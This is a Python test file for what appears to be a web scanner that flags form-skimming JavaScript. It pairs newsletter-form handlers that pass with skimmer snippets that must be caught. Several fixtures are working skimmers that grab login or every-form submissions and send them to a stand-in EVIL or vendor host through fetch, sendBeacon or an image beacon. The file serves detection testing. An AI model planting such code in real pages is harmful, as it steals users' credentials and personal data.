"""Whose form a script takes, beside a login: a vendor's newsletter, or the login itself."""

from __future__ import annotations

import pytest

from cyberscan.model.verdict import Outcome
from tests.checks.content.scripting import EVIL, LOGIN, in_file, on_page

VENDOR = "https://surat.example"
NEWS = '<form id=kabar class=surat name=kabar><input name=email type=email><input name="n"></form>'
NAMED_LOGIN = LOGIN.replace("<form", "<form id=masuk")
QUIET = f"fetch('{VENDOR}/s',{{method:'POST',mode:'no-cors',body:"

OTHERS = [
    (
        "document.getElementById('kabar').addEventListener('submit',function(e){e.preventDefault();"
        f"{QUIET}new FormData(e.target)}})}})"
    ),
    (
        "const f=document.getElementById('kabar');f.onsubmit=e=>{e.preventDefault();"
        f"{QUIET}new FormData(f)}}).then(()=>alert('terima kasih'))}}"
    ),
    (
        "$('#kabar').submit(function(){fetch("
        f"'{VENDOR}/s?email='+this.email.value,{{mode:'no-cors'}});return false}})"
    ),
    f"const g=document.forms.kabar;g.onsubmit=()=>navigator.sendBeacon('{VENDOR}',new FormData(g))",
    f"$('form#kabar').on('submit',function(){{{QUIET}$(this).serialize()}})}})",
    (
        "var s=document.querySelector('form.surat');s.onsubmit=()=>{var d={};s.querySelectorAll("
        f"'input').forEach(i=>d[i.name]=i.value);{QUIET}JSON.stringify(d)}})}}"
    ),
    (
        "document.querySelector('form[name=kabar]').addEventListener('submit',function(){"
        f"{QUIET}new FormData(this)}})}})"
    ),
]
FIELDS = [
    f"b.onclick=()=>fetch('{VENDOR}/?e='+document.getElementById('email').value,{{mode:'no-cors'}})",
    f"var m=document.querySelector('#surel');b.onclick=()=>{QUIET}m.value}})",
    f"b.onclick=()=>{QUIET}document.querySelector('#kabar input[name=email]').value}})",
]
ANY = [
    f"document.addEventListener('submit',e=>{QUIET}new FormData(e.target)}}))",
    f"document.forms[0].addEventListener('submit',e=>{QUIET}new FormData(e.target)}}))",
    f"document.querySelector('form').onsubmit=e=>{QUIET}new FormData(e.target)}})",
    (
        "document.querySelectorAll('form').forEach(f=>f.addEventListener('submit',()=>"
        f"{QUIET}new FormData(f)}})))"
    ),
    f"$('form').submit(function(){{{QUIET}$(this).serialize()}})}})",
    f"$('#kabar').submit(x);$(document).delegate('form','submit',function(){{{QUIET}$(this).serialize()}})}})",
    f"$('#kabar').submit(x);$(document).on('submit.k','form',function(){{{QUIET}$(this).serialize()}})}})",
    # It names the newsletter, and takes others as well.
    (
        "document.getElementById('kabar').onsubmit=kirim;document.querySelectorAll('input')"
        f".forEach(i=>{QUIET}i.value}}))"
    ),
    (
        "var k=document.getElementById('kabar');k.onsubmit=e=>1;addEventListener('submit',e=>"
        f"{QUIET}new FormData(e.target)}}))"
    ),
    (
        "document.getElementById('kabar').onsubmit=e=>1;var p=document.getElementById('p');"
        f"b.onclick=()=>{QUIET}new FormData(p.form)+p.value}})"
    ),
    (
        "document.getElementById('kabar').onsubmit=e=>"
        f"{QUIET}new FormData(document.querySelector('form'))}})"
    ),
    f"var k=$('#kabar');k.submit(x);b.onclick=()=>{QUIET}$('#p')[0].value}})",
    f"b.onclick=()=>{QUIET}document.getElementById('u').value+m.value}})",
    f"var m=document.querySelector('#surel');b.onclick=()=>{QUIET}m.value+$('#s').val()}})",
]
ITSELF = [
    (
        "document.getElementById('masuk').addEventListener('submit',e=>"
        f"{QUIET}new FormData(e.target)}}))"
    ),
    f"$('#masuk').on('submit',function(){{{QUIET}$(this).serialize()}})}})",
    f"const g=document.forms.masuk;g.onsubmit=()=>navigator.sendBeacon('{EVIL}',new FormData(g))",
    (
        "var m=document.getElementById('masuk'),e=m.elements;m.onsubmit=()=>{var o='';for(var i=0;"
        f"i<e.length;i++)o+=e[i].value;(new Image).src='{EVIL}/c.gif?z='+btoa(o)}}"
    ),
]


@pytest.mark.parametrize("source", OTHERS)
def test_another_form_than_the_login(source: str) -> None:
    assert on_page(source, NAMED_LOGIN + NEWS).outcome is Outcome.PASS
    assert in_file(source, LOGIN + NEWS).outcome is Outcome.PASS


@pytest.mark.parametrize("source", FIELDS)
def test_a_field_by_which_somebody_is_reached(source: str) -> None:
    assert on_page(source, NAMED_LOGIN + NEWS).outcome is Outcome.PASS
    mailed = LOGIN.replace("name=nama", "name=email placeholder=surel")
    assert on_page(source, mailed).message == "skimmer"


@pytest.mark.parametrize("source", ANY)
def test_any_form(source: str) -> None:
    assert on_page(source, NAMED_LOGIN + NEWS).message == "skimmer"
    assert in_file(source, LOGIN + NEWS).message == "skimmer"


@pytest.mark.parametrize("source", ITSELF)
def test_the_login_itself(source: str) -> None:
    assert on_page(source, NAMED_LOGIN + NEWS).message == "skimmer"


@pytest.mark.parametrize("source", OTHERS)
def test_a_login_that_bears_the_name(source: str) -> None:
    login = LOGIN.replace("<form", "<form id=kabar class=surat name=kabar")
    assert on_page(source, login).message == "skimmer"
